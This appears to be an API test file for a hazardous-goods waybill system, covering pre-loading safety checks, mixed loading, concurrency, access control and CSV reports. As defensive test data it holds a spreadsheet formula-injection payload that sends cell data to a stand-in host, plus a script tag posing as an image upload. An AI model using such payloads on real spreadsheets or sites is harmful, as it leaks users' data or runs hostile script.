import request from 'supertest';
import { CHECK_RULES_BY_ID } from '../../src/loading-checks/check-rules.catalogue.js';
import { bearer, startTestApp, type TestApp } from '../helpers/app.js';
import { ALL_OK, createCheckWorld, reportPosition } from '../helpers/check-world.js';
import { createOrgWithUser } from '../helpers/fixtures.js';
import { idNumberWithCheck } from '../helpers/ids.js';
import { createWaybillWorld, issuedWaybill, preTripBody, readyWaybill, recordPreTrip, tomorrowInChinaAt, type WaybillWorld } from '../helpers/waybill-world.js';

const JPEG = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(200, 1)]);

describe('pre-loading checks', () => {
  let t: TestApp;
  let w: WaybillWorld;
  let operatorId: string;

  // A world whose vehicle reports through a bound terminal (latest position fresh, no fault bits), with a loading
  // manager to run the checks.
  const world = () => createCheckWorld(t);
  const report = (vehicleId: string, alarmBits = 0, at = new Date()) => reportPosition(t, vehicleId, alarmBits, at);
  const check = (x: WaybillWorld, body: Record<string, unknown>, op = operatorId) =>
    request(t.http).post('/loading-checks').set(bearer(x.loader.token)).send({ operatorId: op, checklist: ALL_OK, ...body });
  const failures = (res: request.Response) => res.body.failures.map((f: { ruleId: string }) => f.ruleId);

  beforeAll(async () => {
    t = await startTestApp();
    const x = await world();
    w = x;
    operatorId = x.operatorId;
  });
  afterAll(() => t?.close());

  it('should pass a compliant waybill from its QR, then load it with seals and closures', async () => {
    const wb = await readyWaybill(t, w);
    const res = await check(w, { qr: wb.qr, scannedPlates: [w.vehicle.plateNumber, w.trailer.plateNumber] });
    expect(res.status).toBe(201);
    expect(res.body).toMatchObject({ outcome: 'pass', failures: [], waybillVersion: 1, startedFrom: 'qr' });
    expect(res.body.results).toHaveLength(32);
    expect((await request(t.http).get(`/waybills/${wb.id}`).set(bearer(w.shipper.token))).body.status).toBe('checked');

    const started = await request(t.http).post(`/loading/${wb.id}/start`).set(bearer(w.loader.token)).send({});
    expect(started.body.status).toBe('loading');
    const photo = await request(t.http).post('/loading-checks/photos').set(bearer(w.loader.token)).set('Content-Type', 'image/jpeg').send(JPEG);
    expect(photo.status).toBe(201);
    const finished = await request(t.http)
      .post(`/loading/${wb.id}/finish`)
      .set(bearer(w.loader.token))
      .send({ lines: [{ lineNo: 1, loadedQuantity: 19.9 }], seals: ['F-01', 'F-02'], fillingRatioPct: 90, closures: { ok: true, photoIds: [photo.body.id] } });
    expect(finished.status).toBe(200);
    expect(finished.body).toMatchObject({ status: 'loaded', lines: [{ loadedQuantity: 19.9 }] });
    const stored = await request(t.http).get(`/loading-checks/${res.body.id}`).set(bearer(w.carrier.token));
    expect(stored.body.snapshot.vehicle.plateNumber).toBe(w.vehicle.plateNumber);
  });

  it('should record the gate the check ran at, and refuse a place of another organisation', async () => {
    const wb = await readyWaybill(t, w);
    const foreign = await check(w, { waybillNumber: wb.number, placeId: w.destination.id });
    expect([foreign.status, foreign.body.code, foreign.body.details]).toEqual([422, 'PLACE_NOT_OF_SITE', { placeId: w.destination.id }]);
    expect((await request(t.http).get(`/waybills/${wb.id}`).set(bearer(w.shipper.token))).body.status).toBe('issued');
    const atGate = await check(w, { waybillNumber: wb.number, placeId: w.origin.id }).expect(201);
    expect(atGate.body).toMatchObject({ outcome: 'pass', placeId: w.origin.id });
  });

  it('should refuse loading beyond the rated load (PL-22) and leave the waybill loading', async () => {
    const wb = await readyWaybill(t, w);
    await check(w, { waybillNumber: wb.number }).expect(201);
    await request(t.http).post(`/loading/${wb.id}/start`).set(bearer(w.loader.token)).send({}).expect(200);
    const res = await request(t.http)
      .post(`/loading/${wb.id}/finish`)
      .set(bearer(w.loader.token))
      .send({ lines: [{ lineNo: 1, loadedQuantity: 33 }], fillingRatioPct: 94, closures: { ok: true } });
    expect(res.status).toBe(422);
    expect(res.body.details.problems.map((p: { code: string }) => p.code)).toEqual(['OVERLOADED']);
    expect((await request(t.http).get(`/waybills/${wb.id}`).set(bearer(w.shipper.token))).body.status).toBe('loading');
  });

  it('should refuse a loading record that leaves out or invents a line, or a tank load without its filling ratio', async () => {
    const wb = await readyWaybill(t, w);
    await check(w, { waybillNumber: wb.number }).expect(201);
    await request(t.http).post(`/loading/${wb.id}/start`).set(bearer(w.loader.token)).send({}).expect(200);
    const finish = (body: object) => request(t.http).post(`/loading/${wb.id}/finish`).set(bearer(w.loader.token)).send({ closures: { ok: true }, ...body });
    const invented = await finish({ lines: [{ lineNo: 2, loadedQuantity: 5 }], fillingRatioPct: 80 });
    expect(invented.status).toBe(422);
    expect(invented.body).toMatchObject({ code: 'LOADING_LINES_INVALID' });
    expect(invented.body.details.problems.map((p: { code: string; evidence: { lineNo: number } }) => [p.code, p.evidence.lineNo])).toEqual([
      ['LINE_UNKNOWN', 2],
      ['LINE_MISSING', 1],
    ]);
    // the tank's gauge is the only source of the filling ratio for goods declared by mass (PL-22)
    const unmeasured = await finish({ lines: [{ lineNo: 1, loadedQuantity: 19.9 }] });
    expect(unmeasured.status).toBe(422);
    expect(unmeasured.body).toMatchObject({ code: 'LOADING_REFUSED', details: { problems: [{ ruleId: 'PL-22', code: 'FILLING_RATIO_REQUIRED' }] } });
    expect((await request(t.http).get(`/waybills/${wb.id}`).set(bearer(w.shipper.token))).body.status).toBe('loading');
    expect((await finish({ lines: [{ lineNo: 1, loadedQuantity: 19.9 }], fillingRatioPct: 88.5 })).status).toBe(200);
  });

  describe('blocking failures', () => {
    it('should fail when the terminal has no recent fix or reports a GNSS fault (PL-25)', async () => {
      const x = await world();
      const wb = await readyWaybill(t, x);
      await report(x.vehicle.id, 0, new Date(Date.now() - 10 * 60_000));
      const stale = await check(x, { waybillNumber: wb.number }, x.operatorId);
      expect(stale.body.outcome).toBe('fail');
      // Gasoline in a tank is ADR high-consequence: PL-29 also needs the tracking that PL-25 finds missing.
      expect(failures(stale)).toEqual(['PL-25', 'PL-29']);
      expect(stale.body.failures[0].messageZh).toMatch(/./);
      expect((await request(t.http).get(`/waybills/${wb.id}`).set(bearer(x.shipper.token))).body.status).toBe('check_failed');
      await report(x.vehicle.id, 1 << 5); // GNSS antenna disconnected
      expect(failures(await check(x, { waybillNumber: wb.number }, x.operatorId))).toEqual(['PL-25', 'PL-29']);
      await report(x.vehicle.id, 0);
      expect((await check(x, { waybillNumber: wb.number }, x.operatorId)).body.outcome).toBe('pass');
    });

    it('should fail an expired vehicle certificate, tank inspection, driver qualification and carrier insurance', async () => {
      const x = await world();
      const wb = await readyWaybill(t, x);
      await request(t.http).patch(`/vehicles/${x.vehicle.id}`).set(bearer(x.carrier.token)).send({ drivingLicenceValidUntil: '2020-01-01', insuranceValidUntil: '2020-01-01' }).expect(200);
      await request(t.http).patch(`/tanks/${x.tank.id}`).set(bearer(x.carrier.token)).send({ nextInspectionDate: '2020-01-01' }).expect(200);
      await request(t.http).patch(`/people/${x.driver.id}`).set(bearer(x.carrier.token)).send({ qualificationValidUntil: '2020-01-01' }).expect(200);
      const res = await check(x, { waybillNumber: wb.number }, x.operatorId);
      expect(res.body.outcome).toBe('fail');
      expect(failures(res).sort()).toEqual(['PL-03', 'PL-09', 'PL-12', 'PL-27']);
    });

    it('should fail plates that do not match, a barred carrier and an unqualified operator', async () => {
      const x = await world();
      const wb = await readyWaybill(t, x);
      const authority = await createOrgWithUser(t, 'authority', { regionCode: '150000' });
      const plates = await check(x, { waybillNumber: wb.number, scannedPlates: ['蒙A99999'] }, x.operatorId);
      expect(failures(plates)).toEqual(['PL-02']);
      await request(t.http).post('/blacklist').set(bearer(authority.token)).send({ subjectType: 'organisation', subjectId: x.carrier.org.id, reason: '重大事故' }).expect(201);
      await request(t.http).patch(`/people/${x.operatorId}`).set(bearer(x.loader.token)).send({ qualificationValidUntil: '2020-01-01' }).expect(200);
      const res = await check(x, { waybillNumber: wb.number }, x.operatorId);
      expect(failures(res).sort()).toEqual(['PL-05', 'PL-31']);
    });

    it('should refuse a forged QR outright and a checklist left unanswered', async () => {
      const wb = await readyWaybill(t, w);
      const [h, payload, sig] = (wb.qr as string).split('.');
      const forged = await check(w, { qr: `${h}.${payload}x.${sig}` });
      expect([forged.status, forged.body.code]).toEqual([422, 'QR_BAD_SIGNATURE']);
      const partial = await check(w, { waybillNumber: wb.number, checklist: [] });
      expect([partial.status, partial.body.code]).toEqual([422, 'CHECKLIST_INCOMPLETE']);
      expect(partial.body.details.items.map((i: { key: string }) => i.key)).toContain('driver_identity');
      const no = await check(w, { waybillNumber: wb.number, checklist: ALL_OK.map((c) => (c.key === 'packages_ok' ? { ...c, ok: false, note: '两桶渗漏' } : c)) });
      expect(failures(no)).toEqual(['PL-17']);
    });
  });

  it('should pass a new check after the carrier substitutes the driver', async () => {
    const x = await world();
    const wb = await readyWaybill(t, x);
    await request(t.http).patch(`/people/${x.driver.id}`).set(bearer(x.carrier.token)).send({ qualificationValidUntil: '2020-01-01' }).expect(200);
    expect(failures(await check(x, { waybillNumber: wb.number }, x.operatorId))).toEqual(['PL-09']);
    expect((await request(t.http).post(`/loading/${wb.id}/start`).set(bearer(x.loader.token)).send({})).body.code).toBe('NO_PASSING_CHECK');
    const substitute = await request(t.http)
      .post('/people')
      .set(bearer(x.carrier.token))
      .send({ name: '替班司机', idNumber: idNumberWithCheck('15020319900909444'), categories: ['driver'], drivingLicenceClass: 'A2', drivingLicenceValidUntil: '2030-01-01', qualificationValidUntil: '2030-01-01', endorsements: ['highly_toxic', 'explosives'] });
    const amended = await request(t.http).post(`/waybills/${wb.id}/amend`).set(bearer(x.carrier.token)).send({ reason: '更换驾驶员', dispatch: { driverId: substitute.body.id } });
    expect(amended.body).toMatchObject({ status: 'issued', version: 2 });
    // The safety briefing was given to the old driver: the substitute is not covered (PL-26) until briefed.
    const unbriefed = await check(x, { qr: amended.body.qr }, x.operatorId);
    expect(failures(unbriefed)).toEqual(['PL-26']);
    expect(unbriefed.body.failures[0].messageZh).toContain('替班司机未接受本趟安全告知');
    await recordPreTrip(t, x, wb.id, { briefing: { personIds: [substitute.body.id, x.escort.id], briefedAt: new Date().toISOString() } });
    const res = await check(x, { qr: amended.body.qr }, x.operatorId);
    expect(res.body).toMatchObject({ outcome: 'pass', waybillVersion: 2 });
  });

  // PL-21 reads the goods already on the vehicle: the lines of the other waybills on this vehicle or trailer whose
  // goods are on board (loading .. incident).
  it('should judge mixed loading with the goods already on the vehicle (PL-21)', async () => {
    const x = await world();
    const pl21 = (res: request.Response) => res.body.results.find((r: { ruleId: string }) => r.ruleId === 'PL-21');
    // petrol loaded through the API onto the vehicle: a second petrol load may join it
    const first = await readyWaybill(t, x);
    await check(x, { waybillNumber: first.number }, x.operatorId).expect(201);
    await request(t.http).post(`/loading/${first.id}/start`).set(bearer(x.loader.token)).send({}).expect(200);
    await request(t.http)
      .post(`/loading/${first.id}/finish`)
      .set(bearer(x.loader.token))
      .send({ lines: [{ lineNo: 1, loadedQuantity: 10 }], fillingRatioPct: 45, closures: { ok: true } })
      .expect(200);
    const second = await readyWaybill(t, x);
    const compatible = await check(x, { waybillNumber: second.number }, x.operatorId);
    expect(compatible.body).toMatchObject({ outcome: 'pass', failures: [] });
    expect(pl21(compatible)).toMatchObject({ status: 'pass', evidence: { items: 2, onVehicle: 1 } });

    // blasting explosive (UN0081, 1.1D) in transit on the same trailer: class 1 with class 3 is refused (ADR 7.5.2.1).
    // It is put in transit directly: the API path to LOADED for explosives (permit, full check) is not what this tests.
    const explosives = await request(t.http)
      .post('/waybills')
      .set(bearer(x.shipper.token))
      .send(x.draft({ lines: [{ unNumber: 'UN0081', declaredQuantity: 500, unit: 'kg', packagingType: '箱', packageCount: 20, sdsRef: 'SDS-炸药', labelRef: 'LBL-炸药' }] }));
    expect(explosives.status).toBe(201);
    await t.ds.query(`UPDATE waybills SET status = 'in_transit', trailer_id = $2 WHERE id = $1`, [explosives.body.id, x.trailer.id]);
    const third = await readyWaybill(t, x);
    const refused = await check(x, { waybillNumber: third.number }, x.operatorId);
    expect(refused.body.outcome).toBe('fail');
    expect(failures(refused)).toEqual(['PL-21']);
    // pairwise over everything on the vehicle: the new petrol line and the petrol already on board each conflict
    const onBoard = (wb: { number: string }) => `on board ${wb.number} line 1`;
    expect(pl21(refused)).toMatchObject({ status: 'fail', evidence: { items: 3, onVehicle: 2 } });
    expect(pl21(refused).evidence.problems).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ code: 'MIXED_LOADING_PROHIBITED', a: 'line 1', b: onBoard(explosives.body), rule: '7.5.2.1' }),
        expect.objectContaining({ code: 'MIXED_LOADING_PROHIBITED', a: onBoard(first), b: onBoard(explosives.body), rule: '7.5.2.1' }),
      ]),
    );
    expect(pl21(refused).evidence.problems).toHaveLength(2);
    expect(refused.body.failures[0].messageEn).toContain('UN0081');
    // the goods on board are part of the stored snapshot, in waybill-number order
    const stored = await request(t.http).get(`/loading-checks/${refused.body.id}`).set(bearer(x.loader.token));
    expect(stored.body.snapshot.goodsOnVehicle.map((g: { ref: string; unNumber: string }) => [g.ref, g.unNumber])).toEqual(
      [
        [onBoard(first), '1203'],
        [onBoard(explosives.body), '0081'],
      ].sort((a, b) => a[0]!.localeCompare(b[0]!)),
    );

    // once delivered the explosives are off the vehicle, and the same check passes
    await t.ds.query(`UPDATE waybills SET status = 'delivered' WHERE id = $1`, [explosives.body.id]);
    const again = await check(x, { waybillNumber: third.number }, x.operatorId);
    expect(again.body.outcome).toBe('pass');
    expect(pl21(again)).toMatchObject({ status: 'pass', evidence: { onVehicle: 1 } });
  });

  it('should not load without a passing check, nor after an amendment voided it', async () => {
    const wb = await readyWaybill(t, w);
    expect((await request(t.http).post(`/loading/${wb.id}/start`).set(bearer(w.loader.token)).send({})).body.code).toBe('NO_PASSING_CHECK');
    await check(w, { waybillNumber: wb.number }).expect(201);
    await request(t.http).post(`/waybills/${wb.id}/amend`).set(bearer(w.shipper.token)).send({ reason: '改期', changes: { plannedArrivalAt: tomorrowInChinaAt(18) } }).expect(200);
    const res = await request(t.http).post(`/loading/${wb.id}/start`).set(bearer(w.loader.token)).send({});
    expect([res.status, res.body.code, res.body.details.version]).toEqual([422, 'NO_PASSING_CHECK', 2]);
  });

  it('should give two operators checking at once one consistent outcome', async () => {
    const wb = await readyWaybill(t, w);
    const [a, b] = await Promise.all([check(w, { waybillNumber: wb.number }), check(w, { qr: wb.qr })]);
    expect(a.body.outcome).toBe('pass');
    expect(b.body.outcome).toBe('pass');
    expect(b.body.id).toBe(a.body.id);
    const [{ count }] = await t.ds.query(`SELECT count(*)::int AS count FROM loading_checks WHERE waybill_id = $1`, [wb.id]);
    expect(count).toBe(1);
  });

  // The check reads without locking and writes guarded by the row version it read: the losers of the race read
  // again and answer with the winner's check; the waybill moves once and its event chain stays whole.
  it('should give five operators checking at once one check, one move and an unbroken event chain', async () => {
    const wb = await readyWaybill(t, w);
    const answers = await Promise.all(Array.from({ length: 5 }, (_, i) => check(w, i % 2 ? { qr: wb.qr } : { waybillNumber: wb.number })));
    expect(answers.map((a) => a.status)).toEqual([201, 201, 201, 201, 201]);
    expect(new Set(answers.map((a) => a.body.id)).size).toBe(1);
    expect(answers.filter((a) => a.body.alreadyChecked).length).toBe(4);
    const [{ checks }] = await t.ds.query(`SELECT count(*)::int AS checks FROM loading_checks WHERE waybill_id = $1`, [wb.id]);
    expect(checks).toBe(1);
    const events = await t.ds.query(`SELECT type, payload FROM waybill_events WHERE waybill_id = $1 AND type LIKE 'check-%'`, [wb.id]);
    expect(events).toEqual([{ type: 'check-pass', payload: { checkId: answers[0]!.body.id, failedRules: [] } }]);
    expect((await request(t.http).get(`/waybills/${wb.id}/events/verify`).set(bearer(w.shipper.token))).body.ok).toBe(true);
  });

  // A failing check is a record of its own for each operator (each saw the fault); the waybill moves to check_failed
  // once, and the chain has that one move.
  it('should give operators failing a waybill at once a result each, one move to check_failed and an unbroken chain', async () => {
    const wb = await readyWaybill(t, w);
    const second = await request(t.http)
      .post('/people')
      .set(bearer(w.loader.token))
      .send({ name: '装卸管理员乙', idNumber: idNumberWithCheck('15062719810202444'), categories: ['loading_manager'], qualificationValidUntil: '2030-01-01' })
      .expect(201);
    const damaged = ALL_OK.map((c) => (c.key === 'packages_ok' ? { ...c, ok: false, note: '桶身凹陷渗漏' } : c));
    const answers = await Promise.all(
      [operatorId, second.body.id as string, operatorId].map((op, i) => check(w, { ...(i % 2 ? { qr: wb.qr } : { waybillNumber: wb.number }), checklist: damaged }, op)),
    );
    expect(answers.map((a) => [a.status, a.body.outcome, failures(a)])).toEqual(Array(3).fill([201, 'fail', ['PL-17']]));
    expect(new Set(answers.map((a) => a.body.id)).size).toBe(3);
    const rows: { operator: string }[] = await t.ds.query(`SELECT operator_person_id AS operator FROM loading_checks WHERE waybill_id = $1 AND outcome = 'fail'`, [wb.id]);
    expect(rows.map((r) => r.operator).sort()).toEqual([operatorId, operatorId, second.body.id].sort());
    const events: { type: string }[] = await t.ds.query(`SELECT type FROM waybill_events WHERE waybill_id = $1 AND type LIKE 'check-%'`, [wb.id]);
    expect(events).toEqual([{ type: 'check-fail' }]);
    expect((await request(t.http).get(`/waybills/${wb.id}`).set(bearer(w.shipper.token))).body.status).toBe('check_failed');
    expect((await request(t.http).get(`/waybills/${wb.id}/events/verify`).set(bearer(w.shipper.token))).body.ok).toBe(true);
  });

  it('should replay a check with the same Idempotency-Key', async () => {
    const wb = await readyWaybill(t, w);
    const key = `chk-${Date.now()}`;
    const a = await request(t.http).post('/loading-checks').set(bearer(w.loader.token)).set('Idempotency-Key', key).send({ operatorId, checklist: ALL_OK, waybillNumber: wb.number });
    const b = await request(t.http).post('/loading-checks').set(bearer(w.loader.token)).set('Idempotency-Key', key).send({ operatorId, checklist: ALL_OK, waybillNumber: wb.number });
    expect(b.headers['idempotent-replayed']).toBe('true');
    expect(b.body.id).toBe(a.body.id);
  });

  it('should keep other sites out and accept only real images', async () => {
    const wb = await readyWaybill(t, w);
    const other = await createOrgWithUser(t, 'loading_site');
    const res = await request(t.http).post('/loading-checks').set(bearer(other.token)).send({ operatorId, checklist: ALL_OK, waybillNumber: wb.number });
    expect([res.status, res.body.code]).toEqual([404, 'WAYBILL_NOT_FOUND']);
    const fake = await request(t.http).post('/loading-checks/photos').set(bearer(w.loader.token)).set('Content-Type', 'image/png').send(Buffer.from('<script>alert(1)</script>'));
    expect([fake.status, fake.body.code]).toEqual([400, 'PHOTO_CONTENT_MISMATCH']);
    const html = await request(t.http).post('/loading-checks/photos').set(bearer(w.loader.token)).set('Content-Type', 'text/html').send('<b>x</b>');
    expect(html.status).toBe(400);
  });

  it('should let an administrator change a configurable severity, audited, and refuse a verified one', async () => {
    const admin = await t.adminToken();
    expect((await request(t.http).patch('/loading-checks/rules/PL-14').set(bearer(w.loader.token)).send({ severity: 'block' })).status).toBe(403);
    expect((await request(t.http).patch('/loading-checks/rules/PL-14').set(bearer(admin)).send({ severity: 'block' })).body).toEqual({ ruleId: 'PL-14', severity: 'block' });
    const fixed = await request(t.http).patch('/loading-checks/rules/PL-25').set(bearer(admin)).send({ severity: 'warn' });
    expect([fixed.status, fixed.body.code]).toEqual([400, 'SEVERITY_NOT_CONFIGURABLE']);
    const rules = await request(t.http).get('/loading-checks/rules').set(bearer(w.loader.token));
    expect(rules.body.rules.find((r: { id: string }) => r.id === 'PL-14').severity).toBe('block');
    const [audit] = await t.ds.query(`SELECT after FROM audit_entries WHERE action = 'check-rule.set-severity' AND entity_id = 'PL-14'`);
    expect(audit.after).toEqual({ severity: 'block' });
    await request(t.http).patch('/loading-checks/rules/PL-14').set(bearer(admin)).send({ severity: 'warn' });
  });

  it('should report checks per site and day with failure reasons ranked, as CSV too, safe to open in a spreadsheet', async () => {
    // A loading site of its own (the report's scope), whose name a spreadsheet would run as a formula.
    const x = await world();
    const name = '=HYPERLINK("http://x.example/?q="&A1,"详情")';
    await request(t.http).patch(`/organisations/${x.loader.org.id}`).set(bearer(x.loader.token)).send({ name }).expect(200);
    const passing = await readyWaybill(t, x);
    expect((await check(x, { waybillNumber: passing.number }, x.operatorId)).body.outcome).toBe('pass');
    const unprepared = await issuedWaybill(t, x);
    expect(failures(await check(x, { waybillNumber: unprepared.number }, x.operatorId))).toEqual(['PL-26']);
    const wrongPlates = await issuedWaybill(t, x);
    expect(failures(await check(x, { waybillNumber: wrongPlates.number, scannedPlates: ['蒙A99999'] }, x.operatorId))).toEqual(['PL-02', 'PL-26']);

    const from = new Date(Date.now() - 86_400_000).toISOString();
    const to = new Date(Date.now() + 86_400_000).toISOString();
    const json = await request(t.http).get('/loading-checks/reports').query({ from, to }).set(bearer(x.loader.token));
    expect(json.status).toBe(200);
    const day = json.body.perSiteAndDay[0]?.day;
    expect(json.body.perSiteAndDay).toEqual([{ siteId: x.loader.org.id, site: name, day, checks: 3, passed: 1, failed: 2 }]);
    // ranked by failures, most first
    expect(json.body.failureReasons.map((r: { ruleId: string; failures: number }) => [r.ruleId, r.failures])).toEqual([
      ['PL-26', 2],
      ['PL-02', 1],
    ]);

    const csv = await request(t.http).get('/loading-checks/reports').query({ from, to, format: 'csv' }).set(bearer(x.loader.token));
    expect(csv.headers['content-type']).toMatch(/text\/csv/);
    const title = (id: 'PL-02' | 'PL-26') => CHECK_RULES_BY_ID[id].title.zh;
    expect(csv.text.replace(/^\uFEFF/, '').split('\r\n')).toEqual([
      'section,site,day,checks,passed,failed,rule,rule_title_zh,failures',
      // the name as text (leading apostrophe), quoted as RFC 4180 says; the counts as numbers
      `per_site_day,"'=HYPERLINK(""http://x.example/?q=""&A1,""详情"")",${day},3,1,2,,,`,
      `failure_reason,,,,,,PL-26,${title('PL-26')},2`,
      `failure_reason,,,,,,PL-02,${title('PL-02')},1`,
      '',
    ]);
  });

  it("should show the shipper and the carrier the checks of their own waybills in the report, and another carrier none", async () => {
    const from = new Date(Date.now() - 86_400_000).toISOString();
    const to = new Date(Date.now() + 86_400_000).toISOString();
    const total = (b: { perSiteAndDay: { checks: number }[] }) => b.perSiteAndDay.reduce((n, r) => n + r.checks, 0);
    const site = await request(t.http).get('/loading-checks/reports').query({ from, to }).set(bearer(w.loader.token));
    const shipper = await request(t.http).get('/loading-checks/reports').query({ from, to }).set(bearer(w.shipper.token));
    const carrier = await request(t.http).get('/loading-checks/reports').query({ from, to }).set(bearer(w.carrier.token));
    const stranger = await createOrgWithUser(t, 'carrier');
    const other = await request(t.http).get('/loading-checks/reports').query({ from, to }).set(bearer(stranger.token));
    expect([site.status, shipper.status, carrier.status, other.status]).toEqual([200, 200, 200, 200]);
    expect(total(site.body)).toBeGreaterThan(0);
    // this world's shipper and carrier are the parties of every waybill checked at this site
    expect(total(shipper.body)).toBe(total(site.body));
    expect(total(carrier.body)).toBe(total(site.body));
    expect(shipper.body.failureReasons).toEqual(site.body.failureReasons);
    expect(other.body.perSiteAndDay).toEqual([]);
    expect(other.body.failureReasons).toEqual([]);
  });

  // Order 29 art. 25: the carrier inspects vehicle, tank, equipment and terminal and briefs the crew; PL-26 reads it.
  describe("the carrier's pre-trip inspection (PL-26)", () => {
    const record = (x: WaybillWorld, id: string, body: Record<string, unknown>, token = x.carrier.token) =>
      request(t.http).post(`/waybills/${id}/pre-trip-inspections`).set(bearer(token)).send(body);

    it('should fail a check on PL-26 without a record, then pass it once the carrier has recorded one', async () => {
      const wb = await issuedWaybill(t, w);
      const before = await check(w, { waybillNumber: wb.number });
      expect(failures(before)).toEqual(['PL-26']);
      expect(before.body.failures[0]).toMatchObject({ ruleId: 'PL-26', messageZh: '承运人未登记本趟出车前检查和安全告知' });

      const res = await record(w, wb.id, preTripBody(w, { items: [{ key: 'satellite_terminal', ok: true }, { key: 'vehicle', ok: true }, { key: 'equipment', ok: true }, { key: 'tank_container', ok: true }] }));
      expect(res.status).toBe(201);
      expect(res.body).toMatchObject({
        waybillId: wb.id,
        waybillVersion: 1,
        carrierId: w.carrier.org.id,
        inspectorId: w.inspector.id,
        vehicleId: w.vehicle.id,
        trailerId: w.trailer.id,
        tankId: w.tank.id,
        briefedPersonIds: [w.driver.id, w.escort.id],
        supersedesId: null,
        current: true,
        coversCheckToday: true,
        problems: [],
      });
      // stored in the catalogue's order whatever the order sent
      expect(res.body.items.map((i: { key: string }) => i.key)).toEqual(['vehicle', 'tank_container', 'equipment', 'satellite_terminal']);

      const after = await check(w, { waybillNumber: wb.number });
      expect(after.body).toMatchObject({ outcome: 'pass', failures: [] });
      const stored = await request(t.http).get(`/loading-checks/${after.body.id}`).set(bearer(w.loader.token));
      const pl26 = stored.body.results.find((r: { ruleId: string }) => r.ruleId === 'PL-26');
      expect(pl26).toMatchObject({ status: 'pass', evidence: { driverId: w.driver.id, escortId: w.escort.id, record: { id: res.body.id, inspectorId: w.inspector.id } } });
      expect(stored.body.snapshot.preTrip.id).toBe(res.body.id);
      // The loading site sees the records of the waybills it checks.
      const listed = await request(t.http).get(`/waybills/${wb.id}/pre-trip-inspections`).set(bearer(w.loader.token));
      expect(listed.status).toBe(200);
      expect(listed.body.items.map((i: { id: string }) => i.id)).toEqual([res.body.id]);
    });

    it('should record a failed item, fail PL-26 on it, and let a new record supersede it', async () => {
      const wb = await issuedWaybill(t, w);
      const items = preTripBody(w).items.map((i) => (i.key === 'equipment' ? { ...i, ok: false, note: '灭火器过期' } : i));
      const failed = await record(w, wb.id, preTripBody(w, { items }));
      expect(failed.status).toBe(201);
      expect(failed.body).toMatchObject({ coversCheckToday: false, problems: [{ code: 'PRETRIP_ITEM_FAILED' }] });
      const res = await check(w, { waybillNumber: wb.number });
      expect(failures(res)).toEqual(['PL-26']);
      expect(res.body.failures[0].messageEn).toBe('Pre-trip inspection failed: Safety equipment, emergency kit and personal protective equipment complete and serviceable: 灭火器过期');

      const fixed = await record(w, wb.id, preTripBody(w));
      expect(fixed.body).toMatchObject({ supersedesId: failed.body.id, coversCheckToday: true });
      const list = await request(t.http).get(`/waybills/${wb.id}/pre-trip-inspections`).set(bearer(w.shipper.token));
      expect(list.body.items.map((i: { id: string; current: boolean }) => [i.id, i.current])).toEqual([
        [fixed.body.id, true],
        [failed.body.id, false],
      ]);
      // the superseded record is kept as it was
      expect(list.body.items[1].items.find((i: { key: string }) => i.key === 'equipment')).toEqual({ key: 'equipment', ok: false, note: '灭火器过期' });
      expect((await check(w, { waybillNumber: wb.number })).body.outcome).toBe('pass');
    });

    it('should refuse, with a code, what makes no sense', async () => {
      const wb = await issuedWaybill(t, w);
      const code = (res: request.Response) => [res.status, res.body.code];
      expect(code(await record(w, '00000000-0000-4000-8000-000000000000', preTripBody(w)))).toEqual([404, 'WAYBILL_NOT_FOUND']);
      const stranger = await createOrgWithUser(t, 'carrier');
      expect(code(await record(w, wb.id, preTripBody(w), stranger.token))).toEqual([404, 'WAYBILL_NOT_FOUND']);
      expect(code(await record(w, wb.id, preTripBody(w), w.shipper.token))).toEqual([403, 'NOT_WAYBILL_CARRIER']);
      expect(code(await record(w, wb.id, preTripBody(w), w.loader.token))).toEqual([403, 'NOT_WAYBILL_CARRIER']);
      // the loading site's manager is not a person of the carrier
      expect(code(await record(w, wb.id, preTripBody(w, { inspectorId: operatorId })))).toEqual([422, 'INSPECTOR_NOT_CARRIER_PERSON']);
      const notCrew = await record(w, wb.id, preTripBody(w, { briefing: { personIds: [w.driver.id, w.inspector.id], briefedAt: new Date().toISOString() } }));
      expect(code(notCrew)).toEqual([422, 'BRIEFED_PERSON_NOT_CREW']);
      expect(notCrew.body.details.personIds).toEqual([w.inspector.id]);
      const missing = await record(w, wb.id, preTripBody(w, { items: [{ key: 'vehicle', ok: true }] }));
      expect(code(missing)).toEqual([400, 'VALIDATION_FAILED']);
      expect(missing.body.message).toContain('missing: tank_container, equipment, satellite_terminal');
      const noNote = await record(w, wb.id, preTripBody(w, { items: preTripBody(w).items.map((i) => ({ ...i, ok: i.key !== 'vehicle' })) }));
      expect(code(noNote)).toEqual([400, 'VALIDATION_FAILED']);
      expect(noNote.body.details.fields[0].path).toBe('items.0.note');
      const future = new Date(Date.now() + 3_600_000).toISOString();
      expect(code(await record(w, wb.id, preTripBody(w, { inspectedAt: future })))).toEqual([400, 'PRETRIP_TIME_IN_FUTURE']);

      const draft = await request(t.http).post('/waybills').set(bearer(w.shipper.token)).send(w.draft());
      await request(t.http).post(`/waybills/${draft.body.id}/dispatch`).set(bearer(w.carrier.token)).send(w.dispatch).expect(200);
      expect(code(await record(w, draft.body.id, preTripBody(w)))).toEqual([409, 'WAYBILL_NOT_BEFORE_LOADING']);
      const loading = await readyWaybill(t, w);
      await check(w, { waybillNumber: loading.number }).expect(201);
      await request(t.http).post(`/loading/${loading.id}/start`).set(bearer(w.loader.token)).send({}).expect(200);
      const late = await record(w, loading.id, preTripBody(w));
      expect(code(late)).toEqual([409, 'WAYBILL_NOT_BEFORE_LOADING']);
      expect(late.body.details.status).toBe('loading');
      // nothing was stored by any refusal
      const [{ count }] = await t.ds.query(`SELECT count(*)::int AS count FROM pre_trip_inspections WHERE waybill_id = ANY($1::uuid[])`, [[wb.id, draft.body.id]]);
      expect(count).toBe(0);
    });
  });
});
